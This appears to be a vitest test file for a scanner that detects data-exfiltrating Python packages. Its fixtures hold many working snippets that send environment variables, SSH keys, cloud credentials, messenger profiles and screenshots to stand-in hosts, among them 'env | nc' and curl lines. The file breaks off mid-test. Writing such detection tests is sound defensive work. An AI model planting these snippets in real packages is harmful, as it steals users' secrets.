import { expect, test } from 'vitest';
import type { Finding } from '../../../src/analysis/report/finding.ts';
import { inspect, python, sdist, wheel } from '../../support/inspect.ts';

test('the host name that is posted at install is malware at the line of the request', async () => {
  const file = sdist({
    'setup.py': python(
      'import socket',
      'import requests',
      'from setuptools import setup',
      'name = socket.gethostname()',
      "requests.post('https://collector.metrics.invalid/a', data={'n': name})",
      "setup(name='example')",
    ),
  });

  const findings = await inspect('exfiltration', file);

  expect(findings).toMatchObject([
    { class: 'malware', score: 10, context: 'install', path: 'example-1.0.0/setup.py', line: 5 },
  ]);
  expect(findings[0]?.chain).toContainEqual(expect.objectContaining({ role: 'source', line: 4 }));
});

test('the whole environment in the query of an import-time request is malware', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import json, os',
      'import urllib.parse, urllib.request',
      "text = urllib.parse.urlencode({'e': json.dumps(dict(os.environ))})",
      "urllib.request.urlopen('https://collector.metrics.invalid/?' + text)",
    ),
  });

  expect(await inspect('exfiltration', file)).toMatchObject([
    { class: 'malware', context: 'import', path: 'pkg/__init__.py', line: 4 },
  ]);
});

test('an environment that is handed to a child process does not leave the machine', async () => {
  const file = sdist({
    'setup.py': python(
      'import os, subprocess',
      'from setuptools import setup',
      'env = os.environ.copy()',
      "env['CFLAGS'] = '-O2'",
      "subprocess.check_call(['make', '-C', 'native'], env=env)",
      "setup(name='example')",
    ),
  });

  expect(await inspect('exfiltration', file)).toEqual([]);
});

test('a client that authenticates with its own variable when it is called is silent', async () => {
  const file = wheel({
    'pkg/client.py': python(
      'import os',
      'import requests',
      'class Client:',
      '    def __init__(self):',
      "        self.token = os.environ['SERVICE_TOKEN']",
      '    def list(self):',
      "        return requests.get('https://api.service.invalid/v1', headers={'Authorization': self.token})",
    ),
  });

  expect(await inspect('exfiltration', file)).toEqual([]);
});

test('a user name that passes through a class, base64 and an alias is still found', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import base64 as b, getpass',
      'from urllib import request as r',
      'class Report:',
      '    def __init__(self, who):',
      '        self.who = who',
      '    def packed(self):',
      '        return b.b64encode(self.who.encode()).decode()',
      'def send(text):',
      "    r.urlopen('https://collector.' + 'metrics.invalid/' + text)",
      'send(Report(getpass.getuser()).packed())',
    ),
  });

  expect(await inspect('exfiltration', file)).toMatchObject([
    { class: 'malware', context: 'import', path: 'pkg/__init__.py', line: 9 },
  ]);
});

const SECRETS = ['import os', '_all = {k: v for k, v in os.environ.items() if "TOKEN" in k}'];

test.each([
  [
    'a TLS socket',
    'import socket, ssl',
    "raw = socket.create_connection(('intake.rates.invalid', 443))",
    "ssl.create_default_context().wrap_socket(raw, server_hostname='intake.rates.invalid').write(repr(_all).encode())",
  ],
  [
    'an asyncio stream',
    'import asyncio',
    'async def report():',
    "    reader, writer = await asyncio.open_connection('intake.rates.invalid', 9001)",
    '    writer.write(repr(_all).encode())',
    'asyncio.run(report())',
  ],
  [
    'SFTP',
    'import io, paramiko',
    'client = paramiko.SSHClient()',
    "client.connect('intake.rates.invalid', username='drop', password='drop')",
    "client.open_sftp().putfo(io.BytesIO(repr(_all).encode()), '/in/env')",
  ],
  [
    'a bucket at an address of its own',
    'import boto3',
    "boto3.client('s3', endpoint_url='https://intake.rates.invalid').put_object(Bucket='b', Key='k', Body=repr(_all))",
  ],
  [
    'a remote procedure',
    'import xmlrpc.client',
    "xmlrpc.client.ServerProxy('https://intake.rates.invalid').report(repr(_all))",
  ],
  [
    'a log handler',
    'import logging, logging.handlers',
    "log = logging.getLogger('m')",
    "log.addHandler(logging.handlers.HTTPHandler('intake.rates.invalid', '/log'))",
    "log.warning('%r', _all)",
  ],
  ['a page', 'import webbrowser', "webbrowser.open('https://intake.rates.invalid/v?' + repr(_all))"],
  [
    'headers of a session',
    'import requests',
    's = requests.Session()',
    "s.headers['X-Context'] = repr(_all)",
    "s.get('https://intake.rates.invalid/favicon.ico')",
  ],
])('the environment that leaves at import by %s is malware, with its host', async (_how, ...lines) => {
  const file = wheel({ 'pkg/__init__.py': python(...SECRETS, ...lines) });

  const [finding] = await inspect('exfiltration', file);

  expect(finding).toMatchObject({ class: 'malware', score: 10, context: 'import', hosts: ['intake.rates.invalid'] });
});

test('secrets written to a folder that git pushes are malware at the push', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      ...SECRETS,
      'import subprocess, tempfile',
      'folder = tempfile.mkdtemp()',
      "with open(folder + '/data.txt', 'w') as stream:",
      '    stream.write(repr(_all))',
      "subprocess.run(['git', 'push', '-q', 'https://code.rates.invalid/drop.git', 'HEAD:main'], cwd=folder)",
    ),
  });

  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', score: 10, line: 7 }]);
});

test('secrets put into a bucket of a well-known store are malware: the store says nothing about the account', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      ...SECRETS,
      'import requests',
      "requests.put('https://storage.googleapis.com/drop/env', data=repr(_all))",
    ),
  });

  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', score: 10 }]);
});

test('a report that is sent once a person has agreed stays below quarantine', async () => {
  const file = wheel({
    'pkg/report.py': python(
      'import os, requests',
      'report = "\\n".join("%s=%s" % pair for pair in os.environ.items())',
      "reply = input('Send the report? ')",
      "if reply.lower().strip() in ('', 'y'):",
      "    requests.post('https://api.github.com/gists', report)",
    ),
  });

  const findings = await inspect('exfiltration', file);

  expect(findings.every((finding) => finding.score < 5)).toBe(true);
});

test('clients for buckets, SFTP, procedures and logs that are handed their data stay silent', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import logging, logging.handlers, xmlrpc.client',
      'import boto3, paramiko',
      '',
      'class Store:',
      '    def __init__(self, endpoint, bucket):',
      "        self.client = boto3.client('s3', endpoint_url=endpoint)",
      '        self.bucket = bucket',
      '    def put(self, key, path):',
      '        self.client.upload_file(path, self.bucket, key)',
      '',
      'class Sync:',
      '    def __init__(self, host, user, key_filename):',
      '        self.ssh = paramiko.SSHClient()',
      '        self.ssh.connect(host, username=user, key_filename=key_filename)',
      '    def push(self, local, remote):',
      '        self.ssh.open_sftp().put(local, remote)',
      '',
      'def releases(name):',
      "    return xmlrpc.client.ServerProxy('https://pypi.org/pypi').package_releases(name)",
      '',
      'def log_to(host):',
      "    logging.getLogger('pkg').addHandler(logging.handlers.HTTPHandler(host, '/log'))",
    ),
  });

  expect((await inspect('exfiltration', file)).filter((finding) => finding.score > 1)).toEqual([]);
});

test('an archive of a messenger profile carries its label to the upload', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os, shutil, requests',
      "profile = os.path.join(os.getenv('APPDATA'), 'Telegram Desktop', 'tdata')",
      "shutil.make_archive(os.path.join(os.getenv('TEMP'), 'a'), 'zip', profile)",
      "requests.post('https://collector.metrics.invalid/a', files={'f': open(os.path.join(os.getenv('TEMP'), 'a.zip'), 'rb')})",
    ),
  });

  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', score: 10, line: 4 }]);
});

test('files that a pattern finds in a store of keys are keys', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import glob, os, urllib.request',
      "for name in glob.glob(os.path.expanduser('~/.ssh/*')):",
      "    urllib.request.urlopen('https://collector.metrics.invalid/k', open(name, 'rb').read())",
    ),
  });

  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', score: 10, line: 3 }]);
});

test('a picture of the screen that is saved to memory first still leaves', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import io, requests',
      'from PIL import ImageGrab',
      'kept = io.BytesIO()',
      "ImageGrab.grab().save(kept, format='PNG')",
      "requests.post('https://collector.metrics.invalid/s', files={'f': kept.getvalue()})",
    ),
  });

  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', score: 10, line: 5 }]);
});

test('the environment that is filed with a code host under a key in the source is with the owner of the key', async () => {
  const request = (key: string): string =>
    `requests.post('https://api.github.com/gists', headers={'Authorization': ${key}}, json={'t': dict(os.environ)})`;
  const inline = wheel({
    'pkg/__init__.py': python('import os, requests', request("'token ghp_abcdefghijklmnopqrstuvwxyz'")),
  });

  expect(await inspect('exfiltration', inline)).toMatchObject([{ class: 'malware', score: 10 }]);
});

test('a report that an import draws up from files of its own stays below quarantine', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os, requests',
      "text = open(os.path.join(os.path.dirname(__file__), 'terms.txt')).read()",
      "requests.post('https://api.vendor.invalid/terms', data=text)",
    ),
    'pkg/terms.txt': 'terms',
  });

  expect(await inspect('exfiltration', file)).toEqual([]);
});

test('a random id that the program keeps in a file of its own is no file of this machine', async () => {
  const lines = [
    'import json, pathlib, urllib.request, uuid',
    "path = pathlib.Path.home() / '.cache' / 'pkg' / 'id'",
    'def own():',
    '    try:',
    '        return path.read_text()',
    '    except OSError:',
    '        value = uuid.uuid4().hex',
    '        path.write_text(value)',
    '        return value',
  ];
  const send = (data: string): string =>
    `urllib.request.urlopen(urllib.request.Request('https://stats.pkg.example/i', data=json.dumps(${data}).encode()))`;

  const honest = await inspect('exfiltration', wheel({ 'pkg/__init__.py': python(...lines, send('own()')) }));
  const other = await inspect(
    'exfiltration',
    wheel({ 'pkg/__init__.py': python(...lines, send("[own(), open('/srv/notes.txt').read()]")) }),
  );

  expect(honest).toEqual([]);
  expect(other).toMatchObject([{ score: 6 }]);
});

test('a command of a raw address that takes the environment is malware', async () => {
  const file = wheel({
    'pkg/__init__.py': python('import subprocess', "subprocess.Popen('env | nc 203.0.113.9 9999', shell=True)"),
  });

  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', score: 10 }]);
});

test('a bot that logs in at import with the token of its own environment is silent', async () => {
  const file = wheel({
    'pkg/bot.py': python('import os', 'import telebot', "bot = telebot.TeleBot(os.environ['TOKEN'])"),
    'pkg/me.py': python(
      'import os, requests',
      "requests.get('https://api.telegram.org/bot' + os.environ['BOT_TOKEN'] + '/getMe')",
    ),
  });

  expect(await inspect('exfiltration', file)).toEqual([]);
});

test('a bot whose token stands in the code takes the host name away', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import socket, telebot',
      "bot = telebot.TeleBot('5000000001:AAEexampleexampleexampleexampleexample')",
      'bot.send_message(1, socket.gethostname())',
    ),
  });

  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', context: 'import', line: 3 }]);
});

test('a host name for the address that the user configured is no malware', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os, socket, requests',
      "requests.post(os.environ['ALERT_URL'], json={'host': socket.gethostname()})",
    ),
  });

  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'suspicious', score: 2 }]);
});

test('an address of the environment with a default in the code is the code’s', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os, socket, requests',
      "url = os.environ.get('ALERT_URL') or 'https://collector.metrics.invalid/a'",
      "requests.post(url, json={'host': socket.gethostname()})",
    ),
  });

  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', score: 10 }]);
});

test('a key for the service that it is named for weighs less than one for somebody else', async () => {
  const file = (host: string) =>
    wheel({
      'pkg/__init__.py': python(
        'import os, requests',
        `requests.get('https://${host}/v1', params={'appid': os.environ['WEATHERMAP_API_KEY']})`,
      ),
    });

  expect(await inspect('exfiltration', file('api.weathermap.invalid'))).toMatchObject([{ score: 2 }]);
  expect(await inspect('exfiltration', file('api.elsewhere.invalid'))).toMatchObject([{ score: 8 }]);
});

test('a random id that the program keeps in its cache goes with its statistics', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import json, uuid, urllib.request',
      'from pathlib import Path',
      "path = Path.home() / '.cache' / 'pkg' / 'id'",
      'try:',
      '    value = path.read_text()',
      'except OSError:',
      '    value = uuid.uuid4().hex',
      '    path.write_text(value)',
      "urllib.request.urlopen('https://stats.vendor.invalid/import', data=json.dumps({'id': value}).encode())",
    ),
  });

  expect(await inspect('exfiltration', file)).toEqual([]);
});

test('a reporter of exceptions that hooks in at import acts when there is one', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import socket, sys, requests',
      'def report(kind, value, trace):',
      "    requests.post('https://notify.vendor.invalid/', json={'error': str(value), 'host': socket.gethostname()})",
      'sys.excepthook = report',
    ),
  });

  const findings = await inspect('exfiltration', file);

  expect(findings.every((f) => f.class !== 'malware' && f.context === 'call')).toBe(true);
  expect(await inspect('patched-function', file)).toEqual([]);
});

test('a client that logs in with its entry of the keyring does not take the store', async () => {
  const file = wheel({
    'pkg/client.py': python(
      'import keyring, requests',
      'def login(user):',
      "    word = keyring.get_password('pkg', user)",
      "    return requests.post('https://api.vendor.invalid/login', data={'user': user, 'password': word})",
    ),
  });

  expect((await inspect('exfiltration', file)).every((f) => f.score < 5)).toBe(true);
});

test.each([
  [
    'a query language',
    [
      'from gql import gql, Client',
      'from gql.transport.requests import RequestsHTTPTransport',
      "c = Client(transport=RequestsHTTPTransport(url='https://graph.tools.invalid/q'))",
      "c.execute(gql('mutation($b:String!){add(body:$b)}'), variable_values={'b': dict(os.environ)})",
    ],
  ],
  [
    'a document store',
    [
      'from pymongo import MongoClient',
      "MongoClient('mongodb+srv://u:p@c0.tools.invalid/db').db.hosts.insert_one({'env': dict(os.environ)})",
    ],
  ],
  [
    'a relational database',
    [
      'import psycopg2',
      "cur = psycopg2.connect(host='203.0.113.12', dbname='x').cursor()",
      "cur.execute('insert into h values (%s)', (str(dict(os.environ)),))",
    ],
  ],
  [
    'a chat room',
    [
      'from nio import AsyncClient',
      "c = AsyncClient('https://m.tools.invalid', '@x:m')",
      "c.room_send('!r:m', 'm.room.message', {'body': open(os.path.expanduser('~/.netrc')).read()})",
    ],
  ],
  [
    'a broker that it is connected to first',
    [
      'import paho.mqtt.client as mqtt',
      'c = mqtt.Client()',
      "c.connect('broker.tools.invalid', 1883)",
      "c.publish('in', open(os.path.expanduser('~/.ssh/id_rsa')).read())",
    ],
  ],
  [
    'packets made by hand',
    [
      'from scapy.all import IP, ICMP, send',
      "send(IP(dst='198.51.100.200') / ICMP() / open(os.path.expanduser('~/.ssh/id_ed25519'), 'rb').read())",
    ],
  ],
  [
    'an archive that is packed in memory',
    [
      'import io, zipfile, requests',
      'buf = io.BytesIO()',
      "z = zipfile.ZipFile(buf, 'w')",
      "z.write(os.path.expanduser('~/.git-credentials'))",
      'z.close()',
      "requests.put('https://drop.tools.invalid/a', data=buf.getvalue())",
    ],
  ],
  [
    'a field that is made when nobody gives it',
    [
      'from dataclasses import dataclass, field',
      'import urllib.request',
      'def ident():',
      "    return urllib.request.urlopen('https://collector.metrics.invalid/?' + str(dict(os.environ))).read()",
      '@dataclass',
      'class S:',
      '    i: bytes = field(default_factory=ident)',
      'S()',
    ],
  ],
])('secrets leave through %s', async (_way, lines) => {
  const file = wheel({ 'pkg/__init__.py': python('import os', ...lines) });

  expect(await inspect('exfiltration', file)).toContainEqual(
    expect.objectContaining({ class: 'malware', score: 10, context: 'import' }),
  );
});

test('templates, settings and requests that are filled in are no clients, whatever address they were made with', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os, string, urllib.request',
      'from jinja2 import Template',
      "string.Template('https://docs.vendor.invalid/$HOME').safe_substitute(os.environ)",
      "Template('https://docs.vendor.invalid/{{ HOME }}').render(os.environ)",
      'from pydantic import BaseModel',
      'from confuse import Configuration',
      "Configuration('pkg').set_env(os.environ)",
    ),
  });

  expect(await inspect('exfiltration', file)).toEqual([]);
});

test('a few lines that tell a fixed host the secrets of files, and never read an answer, are malware on call as well', async () => {
  const lines = ['import requests', 'def load(path=".env"):', '    d = open("/home/dev/.aws/credentials").read()'];
  const taken = wheel({
    'pkg/__init__.py': python(...lines, "    requests.post('https://e.tools.invalid/v', data=d)"),
  });
  const used = wheel({
    'pkg/__init__.py': python(...lines, "    return requests.post('https://e.tools.invalid/v', data=d).json()"),
  });

  expect(await inspect('exfiltration', taken)).toMatchObject([{ class: 'malware', score: 10, context: 'call' }]);
  expect(await inspect('exfiltration', used)).toMatchObject([{ class: 'suspicious', context: 'call' }]);
});

test.each([
  [
    'a client that was made with a key',
    [
      'from pyairtable import Api',
      "Api('patInert0000000001.0f0f0f0f0f0f').table('appX', 'T').create({'env': str(dict(os.environ))})",
    ],
  ],
  [
    'a spreadsheet of the author',
    [
      'import gspread',
      "gc = gspread.service_account_from_dict({'private_key': 'x'})",
      "gc.open('log').sheet1.append_row([str(dict(os.environ))])",
    ],
  ],
  [
    'a pool that is handed paths',
    [
      'import requests',
      'from concurrent.futures import ThreadPoolExecutor',
      'def up(path):',
      "    requests.post('https://file.tools.invalid/u', files={'f': open(path, 'rb')})",
      "todo = [os.path.join(r, f) for r, d, fs in os.walk(os.path.expanduser('~/.ssh')) for f in fs]",
      'ThreadPoolExecutor(8).map(up, todo)',
    ],
  ],
  [
    'an object that becomes a text',
    [
      'import urllib.request',
      'class V:',
      '    def __str__(self):',
      "        urllib.request.urlopen('https://collector.metrics.invalid/?' + str(dict(os.environ)))",
      "        return '1.0'",
      "VERSION = f'{V()}'",
    ],
  ],
])('secrets leave by %s', async (_way, lines) => {
  const file = wheel({ 'pkg/__init__.py': python('import os', ...lines) });

  expect(await inspect('exfiltration', file)).toContainEqual(
    expect.objectContaining({ class: 'malware', score: 10, context: 'import' }),
  );
});

test('documents for the storage of whoever wrote the key into the code leave, those of the caller do not', async () => {
  const walk = [
    'import os, dropbox',
    'def up(box):',
    "    for r, _, fs in os.walk(os.path.expanduser('~/Documents')):",
    '        for f in fs:',
    "            box.files_upload(open(os.path.join(r, f), 'rb').read(), '/' + f)",
  ];
  const taken = wheel({ 'pkg/__init__.py': python(...walk, "up(dropbox.Dropbox('sl.inert-token-0001'))") });
  const own = wheel({ 'pkg/__init__.py': python(...walk, "up(dropbox.Dropbox(os.environ['DROPBOX_TOKEN']))") });

  expect(await inspect('exfiltration', taken)).toMatchObject([{ class: 'malware', hosts: ['content.dropboxapi.com'] }]);
  expect(await inspect('exfiltration', own)).toEqual([]);
});

test('secrets that are enciphered or put into settings with a long key are sent nowhere', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os',
      'from cryptography.fernet import Fernet',
      'from settings_of_others import Settings',
      "Fernet('Zm9vYmFyMDEyMzQ1Njc4OWFiY2RlZmdoaWprbG1ubw==').encrypt(str(dict(os.environ)).encode())",
      "Settings('pkg').read(os.environ)",
    ),
  });

  expect(await inspect('exfiltration', file)).toEqual([]);
});

test('a command that shows its user the link of the picture it put up is for a person to judge; who looks at no link takes it', async () => {
  const of = (lines: readonly string[]): Promise<readonly Finding[]> =>
    inspect(
      'exfiltration',
      wheel({
        'pkg/__init__.py': '',
        'pkg/__main__.py': python(
          'import io, requests',
          'from PIL import ImageGrab',
          'kept = io.BytesIO()',
          "ImageGrab.grab().save(kept, format='PNG')",
          ...lines,
        ),
      }),
    );

  expect(
    await of([
      "answer = requests.post('https://api.imgur.com/3/upload', files={'f': kept.getvalue()})",
      'print(answer.json())',
    ]),
  ).toMatchObject([{ class: 'suspicious', score: 6, context: 'entry-point' }]);
  expect(await of(["requests.post('https://api.imgur.com/3/upload', files={'f': kept.getvalue()})"])).toMatchObject([
    { class: 'malware', score: 10 },
  ]);
  expect(
    await of([
      "answer = requests.post('https://webhook.site/1b2c', files={'f': kept.getvalue()})",
      'print(answer.text)',
    ]),
  ).toMatchObject([{ class: 'malware', score: 10 }]);
});

test('a licence that is asked for with a digest of the machine’s names stays below quarantine, one with the names beside it does not', async () => {
  const of = (fields: string): Promise<readonly Finding[]> =>
    inspect(
      'exfiltration',
      wheel({
        'pkg/licence.py': python(
          'import hashlib, platform, requests',
          'def machine():',
          "    return hashlib.sha256(f'{platform.node()}-{platform.machine()}'.encode()).hexdigest()[:16]",
          'def validate(key):',
          `    answer = requests.post('https://licences-of-tool.onrender.com/v1', json={${fields}}, timeout=10)`,
          '    return answer.json()',
        ),
      }),
    );

  expect(await of("'key': key, 'machine': machine()")).toMatchObject([{ class: 'suspicious', score: 2 }]);
  const many = Array.from({ length: 60 }, (_, i) => `'k${i}': ${i}`).join(', ');
  for (const fields of [
    "'key': key, 'machine': machine(), 'name': platform.node()",
    `'machine': machine(), ${many}, 'name': platform.node()`,
  ])
    expect(await of(fields)).toMatchObject([{ class: 'malware', score: 9 }]);
});

test('a device that reports to a bare address by the number of its network card is suspicious, by the name of its user malware', async () => {
  const of = (name: string): Promise<readonly Finding[]> =>
    inspect(
      'exfiltration',
      wheel({
        'pkg/robot.py': python(
          'import getpass, requests, uuid',
          'def online():',
          '    mac = uuid.UUID(int=uuid.getnode()).hex[-12:]',
          `    requests.post('http://203.0.113.20:8081/status', json={'mac': mac, 'name': ${name}})`,
        ),
      }),
    );

  expect(await of("'robot'")).toMatchObject([{ class: 'suspicious', score: 6 }]);
  expect(await of('getpass.getuser()')).toMatchObject([{ class: 'malware', score: 9 }]);
});

test('tokens that are changed at the sign-in of their vendor go to nobody else; at another host, or behind its name, they do', async () => {
  const of = (url: string, headers = '{}'): Promise<readonly Finding[]> =>
    inspect(
      'exfiltration',
      wheel({
        'pkg/login.py': python(
          'import json, os',
          'from urllib.parse import urlencode',
          'from urllib.request import Request, urlopen',
          'def refreshed():',
          "    with open(os.path.expanduser('~/.azure/accessTokens.json')) as f:",
          '        kept = json.load(f)',
          "    body = urlencode({'refresh_token': kept[0]['refreshToken']}).encode()",
          `    return json.loads(urlopen(Request('${url}', body, ${headers})).read())`,
        ),
      }),
    );

  expect(await of('https://login.microsoftonline.com/common/oauth2/token')).toMatchObject([
    { class: 'note', score: 1 },
  ]);
  expect(await of('https://login.tokens.invalid/common/oauth2/token')).toMatchObject([
    { class: 'suspicious', score: 6 },
  ]);
  expect(await of('https://login.microsoftonline.com.tokens.invalid/token')).toMatchObject([{ score: 6 }]);
});

test('files that are kept with a paste service under its user’s own key are the user’s; a key of the code is the author’s', async () => {
  const of = (key: string, url = 'https://api.jsonbin.io/v3/b'): Promise<readonly Finding[]> =>
    inspect(
      'exfiltration',
      wheel({
        'pkg/sync.py': python(
          'import os, requests, subprocess',
          'def keep(master_key):',
          "    listed = subprocess.run(['ls', '-R', '/srv'], capture_output=True).stdout",
          `    return requests.post('${url}', json={'l': listed}, headers={'X-Master-Key': ${key}}).json()`,
        ),
      }),
    );

  expect(await of('master_key')).toEqual([]);
  expect(await of("os.environ['BIN_KEY']")).toEqual([]);
  for (const [key, url] of [
    ["'$2b$10$abcdefghijklmnopqrstuv'", undefined],
    ["os.environ.get('BIN_KEY', '$2b$10$abcdefghijklmnopqrstuv')", undefined],
    ['master_key', 'https://paste.rs/'],
  ] as const)
    expect(await of(key, url)).toMatchObject([{ class: 'suspicious', score: 5 }]);
});

test.each([
  ['a sign-in of the vendor', 'https://signin.aws.amazon.com/federation', 0],
  ['a sign-in of the vendor elsewhere', 'https://signin.amazonaws.cn/federation', 0],
  ['a bucket', 'https://drop.s3.amazonaws.com/x', 5],
  ['a name that looks alike', 'https://signin.amazonaws.invalid/federation', 5],
])('credentials on call to %s', async (_what, address, least) => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import boto3, requests',
      'def open_console():',
      '    keys = boto3.Session().get_credentials().get_frozen_credentials()',
      `    return requests.get('${address}', params={'k': keys.secret_key, 's': keys.token}).json()`,
    ),
  });
  const scores = (await inspect('exfiltration', file)).map(({ score }) => score);

  expect(Math.max(0, ...scores)).toBeGreaterThanOrEqual(least);
  if (least === 0) expect(Math.max(0, ...scores)).toBeLessThan(3);
});

test.each([
  ["'C:\\\\Users\\\\k.lindt\\\\Pictures\\\\a.gif'", 'suspicious'],
  ["os.path.expanduser('~/Pictures/a.gif')", 'malware'],
  ["'/home/user/a.gif'", 'malware'],
])('a file of the author, which no other machine has, tried out at import: %s', async (path, expected) => {
  const file = wheel({
    'pkg/__init__.py': '',
    'pkg/trial.py': python(
      'import os, requests',
      `requests.post('https://catbox.moe/user/api.php', files={'f': open(${path}, 'rb')})`,
    ),
  });

  expect(await inspect('exfiltration', file)).toMatchObject([{ class: expected, context: 'import' }]);
});

test('settings that are named for the house they go to are its own business on call, and nobody else', async () => {
  const asking = (address: string): string =>
    python(
      'import requests, yaml',
      'def balance():',
      "    key = yaml.safe_load(open('/etc/binance.yml'))['key']",
      `    return requests.get('${address}', params={'k': key}).json()`,
    );
  const own = await inspect('exfiltration', wheel({ 'pkg/__init__.py': asking('https://api.binance.com/v1') }));
  const other = await inspect('exfiltration', wheel({ 'pkg/__init__.py': asking('https://api.binance-keys.com/v1') }));

  expect(Math.max(0, ...own.map(({ score }) => score))).toBeLessThan(3);
  expect(other).toMatchObject([{ score: 6 }]);
});

test('a log-in that lies in the folder of the house it is sent to is that house’s; another folder’s, or another host’s, is not', async () => {
  const of = (path: string, host: string): Promise<readonly Finding[]> =>
    inspect(
      'exfiltration',
      wheel({
        'pkg/client.py': python(
          'import json, os, requests',
          'def me():',
          `    with open(os.path.expanduser('${path}')) as f:`,
          '        kept = json.load(f)',
          `    return requests.post('https://${host}/login', json={'user': kept['user'], 'word': kept['word']}).json()`,
        ),
      }),
    );

  expect(await of('~/.courses/credentials.json', 'api.courses.ai')).toMatchObject([{ class: 'suspicious', score: 2 }]);
  for (const [path, host] of [
    ['~/.courses/credentials.json', 'api.collector.ai'],
    ['~/.aws/credentials.json', 'api.courses.ai'],
    ['~/.courses/wallet/credentials.json', 'api.courses.ai'],
    ['~/.azure/credentials.json', 'vm.westeurope.cloudapp.azure.com'],
  ] as const)
    expect((await of(path, host))[0]?.score).toBeGreaterThanOrEqual(6);
});

test('a digest of names, or the number of a card for which a licence comes back, is for a person to judge at import; names are not', async () => {
  const of = (value: string, rest = "if not answer.json()['valid']: sys.exit(1)"): Promise<readonly Finding[]> =>
    inspect(
      'exfiltration',
      wheel({
        'pkg/__init__.py': python(
          'import getpass, hashlib, platform, requests, sys, uuid',
          `answer = requests.get('https://licence.vendor.invalid/check', params={'m': ${value}})`,
          rest,
        ),
      }),
    );

  expect(await of('uuid.getnode()')).toMatchObject([{ class: 'suspicious', score: 10 }]);
  expect(await of('hashlib.sha256(platform.node().encode()).hexdigest()')).toMatchObject([
    { class: 'suspicious', score: 6 },
  ]);
  for (const value of ['platform.node()', "f'{uuid.getnode()}-{getpass.getuser()}'", 'platform.node().encode().hex()'])
    expect(await of(value)).toMatchObject([{ class: 'malware', score: 10 }]);
});

test('a datagram to every address of a network says what is in it, not where it goes', async () => {
  const asking = (data: string): string =>
    python(
      'import netifaces, socket',
      's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
      "for place in [netifaces.ifaddresses(i)[2][0]['broadcast'] for i in netifaces.interfaces()]:",
      `    s.sendto(${data}, (place, 10000))`,
    );

  expect(await inspect('exfiltration', wheel({ 'pkg/__init__.py': asking("b'\\x44'") }))).toEqual([]);
  expect(
    await inspect('exfiltration', wheel({ 'pkg/__init__.py': asking('socket.gethostname().encode()') })),
  ).not.toEqual([]);
});

test('a service that announces itself to its own network tells nobody outside of it', async () => {
  const announcing = (address: string): string =>
    python(
      'import socket',
      's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
      'def announce():',
      `    s.sendto(socket.gethostname().encode(), ('${address}', 4000))`,
    );

  for (const address of ['239.77.67.88', '255.255.255.255'])
    expect(await inspect('exfiltration', wheel({ 'pkg/__init__.py': announcing(address) }))).toEqual([]);
  expect(await inspect('exfiltration', wheel({ 'pkg/__init__.py': announcing('203.0.113.9') }))).not.toEqual([]);
});

test('a messenger that is logged in to with what its user has put into .env is handed nothing of the machine', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'from dotenv import dotenv_values',
      'from telethon import TelegramClient',
      'def connect():',
      "    kept = dotenv_values('.env')",
      "    return TelegramClient('session', kept['API_ID'], kept['API_HASH'])",
    ),
  });

  for (const { score } of await inspect('exfiltration', file)) expect(score).toBeLessThan(5);
});

test('a name for an address of this machine is this machine', async () => {
  const asking = (host: string): string =>
    python(
      'import requests, socket',
      'def sign_in():',
      `    requests.post('https://${host}/in', json={'h': socket.gethostname()})`,
    );

  expect(await inspect('exfiltration', wheel({ 'pkg/__init__.py': asking('sso.127.0.0.1.nip.io') }))).toEqual([]);
  expect(await inspect('exfiltration', wheel({ 'pkg/__init__.py': asking('sso.203.0.113.9.nip.io') }))).not.toEqual([]);
});

test('a command line that a caller starts weighs like the same request: names to a house are nothing, to nobody they are', async () => {
  const score = async (command: string): Promise<number> =>
    (
      await inspect(
        'exfiltration',
        wheel({
          'pkg/__init__.py': python('import getpass, os', 'def act(place, name):', `    os.system(${command})`),
        }),
      )
    )[0]?.score ?? 0;

  expect(await score("'curl -L https://files.vendor.invalid/a -o /data/' + getpass.getuser() + '/a'")).toBe(1);
  expect(await score("'curl https://203.0.113.8/a?' + getpass.getuser()")).toBe(5);
  expect(await score("'curl https://drop.onrender.com/a?' + getpass.getuser()")).toBe(5);
  expect(await score("'ARCH=$(uname -m); wget https://files.vendor.invalid/$ARCH.tgz'")).toBe(1);
  expect(await score('\'curl -d "$(env)" https://files.vendor.invalid/a\'')).toBe(5);
});

test('a key that is copied to the machine a caller names is the business of the caller, to a machine of the code it is not', async () => {
  const copied = async (target: string): Promise<number> =>
    (
      await inspect(
        'exfiltration',
        wheel({
          'pkg/__init__.py': python(
            'import base64, os, subprocess',
            'def provide(target):',
            `    subprocess.run(['scp', os.path.expanduser('~/.ssh/id_ed25519'), ${target} + ':~/.ssh/id_new'])`,
          ),
        }),
      )
    )[0]?.score ?? 0;

  expect(await copied('target')).toBe(2);
  expect(await copied("'keeper@keys.vendor.invalid'")).toBe(5);
  expect(await copied('base64.b64decode(os.urandom(4)).decode()')).toBe(5);
});

test('the token in an address that git pushes to is for a person who calls, and malware in an install', async () => {
  const lines = (indent: string): readonly string[] =>
    [
      "token = os.environ['GITHUB_TOKEN']",
